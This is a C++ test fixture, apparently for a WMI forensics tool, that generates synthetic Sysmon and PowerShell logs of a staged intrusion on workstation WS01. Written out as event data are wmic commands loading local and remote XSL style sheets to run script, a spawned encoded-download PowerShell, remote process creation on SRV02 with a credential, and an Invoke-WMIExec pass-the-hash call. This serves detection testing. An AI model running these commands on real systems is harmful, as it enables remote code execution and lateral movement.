// SPDX-License-Identifier: Apache-2.0
//
// The workstation: WS01, 192.0.2.11, where anna works and the attack begins.
#include "tests/example_story.h"

#include <utility>

#include "base/format.h"

namespace wmiscope::testkit {
namespace {

constexpr std::string_view kWmic = "C:\\Windows\\System32\\wbem\\WMIC.exe";
constexpr std::string_view kScript =
    "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\anna\\Downloads\\invoice.js\"";
constexpr std::string_view kScriptBegan = "09:12:04.1120000";
constexpr std::string_view kSheetBegan = "09:12:31.0080000";
constexpr std::string_view kCallBegan = "09:16:40.2290000";
constexpr std::string_view kAnnaLogon = "2026-11-03T07:58:11Z";

EventBuilder annas_process(std::string_view image, std::string_view command_line) {
  return sysmon_1().image(image).command_line(command_line).logon(0x51f2a, kAnnaLogon, 1);
}

EventBuilder wmic(std::string_view command_line, std::uint32_t pid) {
  return annas_process(kWmic, command_line)
      .original_file_name("wmic.exe")
      .process_id(pid)
      .parent("C:\\Windows\\System32\\wscript.exe", kScript, 7124, on_the_day(kScriptBegan));
}

// An ordinary morning: programs, names looked up, files, connections.
void office_work(ExampleLog& log, int hour) {
  const auto at = [&](int minute) { return format("{:02}:{:02}:07.4410000", hour, minute); };
  constexpr std::string_view kEdge =
      "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
  constexpr std::string_view kNode = "C:\\Program Files\\nodejs\\node.exe";
  log.add(at(0), annas_process(kEdge, format("\"{}\" --profile-directory=Default", kEdge)));
  log.add(at(0), sysmon_22().data("QueryName", "intranet.example.org").image(kEdge));
  log.add(at(1), sysmon_3().image(kEdge).user("EXAMPLE\\anna").data("DestinationIp", "192.0.2.80"));
  log.add(at(2), annas_process("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\plan.txt"));
  log.add(at(2), sysmon_7().data("ImageLoaded", "C:\\Windows\\System32\\uxtheme.dll"));
  log.add(at(3), sysmon_11().data("TargetFilename", "C:\\Users\\anna\\Documents\\plan.txt"));
  log.add(at(3), annas_process(kNode, "node server\\index.js").process_id(6120));
  log.add(at(4),
          sysmon_13().data("TargetObject", "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\x"));
  log.add(at(4), sysmon_5());
  log.add(at(5),
          annas_process("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic bios get serialnumber")
              .original_file_name("wmic.exe")
              .parent("C:\\Program Files\\Example\\inventory.exe"));
}

// `wmic os get` with a style sheet on the disk, then one fetched from the web.
void style_sheets(ExampleLog& log) {
  log.add(kScriptBegan,
          annas_process("C:\\Windows\\System32\\wscript.exe", kScript).process_id(7124));
  log.add("09:12:09.3040000",
          wmic("wmic os get /format:\"C:\\Users\\anna\\AppData\\Local\\Temp\\evil.xsl\"", 7340));
  log.add("09:12:09.5170000", sysmon_7()
                                  .image(kWmic)
                                  .process_id(7340)
                                  .process_began(on_the_day("09:12:09.3040000"))
                                  .data("ImageLoaded", "C:\\Windows\\System32\\jscript.dll"));
  log.add(kSheetBegan,
          wmic("wmic process get brief /format:\"http://files.example.org/news.xsl\"", 7412));
  log.add("09:12:31.4420000", sysmon_3()
                                  .image(kWmic)
                                  .process_id(7412)
                                  .process_began(on_the_day(kSheetBegan))
                                  .user("EXAMPLE\\anna")
                                  .data("DestinationIp", "198.51.100.7")
                                  .data("DestinationPort", "80"));
  log.add(
      "09:12:31.6010000",
      sysmon_11()
          .image(kWmic)
          .process_id(7412)
          .process_began(on_the_day(kSheetBegan))
          .data("TargetFilename",
                "C:\\Users\\anna\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\8QW2\\news[1]."
                "xsl"));
  log.add("09:12:33.2250000",
          annas_process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        kEncodedDownload)
              .process_id(7508)
              .parent(kWmic, "wmic process get brief /format:\"http://files.example.org/news.xsl\"",
                      7412, on_the_day(kSheetBegan)));
}

// Looking around, then the command for the server; the copy of wmic is known by its original name.
void towards_the_server(ExampleLog& log) {
  log.add("09:14:02.7740000",
          wmic("wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName",
               7600));
  log.add("09:15:20.9030000",
          annas_process("C:\\Users\\Public\\svc.exe", "svc.exe /node:\"SRV02\" os get caption")
              .original_file_name("wmic.exe")
              .process_id(7644)
              .parent("C:\\Windows\\System32\\cmd.exe", "cmd.exe", 7590));
  log.add(kCallBegan,
          wmic(format("wmic /node:SRV02 /user:EXAMPLE\\svc-deploy /password:Example-2026 process "
                      "call create \"{}\"",
                      kEncodedDownload),
               7720));
  for (const auto& [clock, port] :
       {std::pair("09:16:40.4420000", "135"), std::pair("09:16:40.5010000", "49670")}) {
    log.add(clock, sysmon_3()
                       .image(kWmic)
                       .process_id(7720)
                       .process_began(on_the_day(kCallBegan))
                       .user("EXAMPLE\\anna")
                       .data("DestinationIp", "192.0.2.20")
                       .data("DestinationPort", port)
                       .data("DestinationPortName", "-"));
  }
}

}  // namespace

ExampleLog::ExampleLog(std::string file, std::string computer, std::uint64_t first_record_id)
    : file_(std::move(file)),
      computer_(std::move(computer)),
      writer_({.first_record_id = first_record_id}) {}

void ExampleLog::add(std::string_view clock, EventBuilder event) {
  writer_.add(event.computer(computer_).at(on_the_day(clock)));
}

ExampleFile ExampleLog::write() { return {.name = file_, .bytes = writer_.write()}; }

std::string on_the_day(std::string_view clock) { return format("2026-11-03T{}Z", clock); }

ExampleFile workstation_sysmon() {
  ExampleLog log("WS01-Sysmon.evtx", "WS01.example.org", 48101);
  office_work(log, 8);
  style_sheets(log);
  towards_the_server(log);
  office_work(log, 10);
  return log.write();
}

ExampleFile workstation_powershell() {
  ExampleLog log("WS01-PowerShell.evtx", "WS01.example.org", 912);
  const auto script = [&](std::string_view clock, std::string_view text) {
    log.add(clock, powershell_4104().data("ScriptBlockText", text));
  };
  script("08:31:10.0010000", "prompt");
  script("08:31:44.5600000", "Get-ChildItem -Path C:\\Users\\anna\\Documents -Recurse");
  log.add("08:31:44.6120000",
          powershell_4103()
              .data("ContextInfo",
                    "        User = EXAMPLE\\anna\r\n        Command Name = Get-ChildItem")
              .data("Payload", "CommandInvocation(Get-ChildItem): \"Get-ChildItem\""));
  script("08:40:02.1100000", "Get-CimInstance Win32_OperatingSystem | Select-Object Caption");
  script(
      "09:17:55.3380000",
      "function Invoke-WMIExec\n{\n  param([String]$Target, [String]$Domain, [String]$Username,\n"
      "    [String]$Hash, [String]$Command)\n  # body left out: this is an example\n}");
  script("09:18:20.0150000",
         "Invoke-WMIExec -Target 192.0.2.20 -Domain EXAMPLE -Username svc-deploy "
         "-Hash 00112233445566778899AABBCCDDEEFF -Command 'cmd.exe /c ver'");
  script("10:02:13.9000000", "Get-Help about_Execution_Policies");
  return log.write();
}

std::vector<ExampleFile> example_files() {
  return {workstation_sysmon(), workstation_powershell(), server_sysmon(), server_security(),
          server_wmi_activity()};
}

}  // namespace wmiscope::testkit
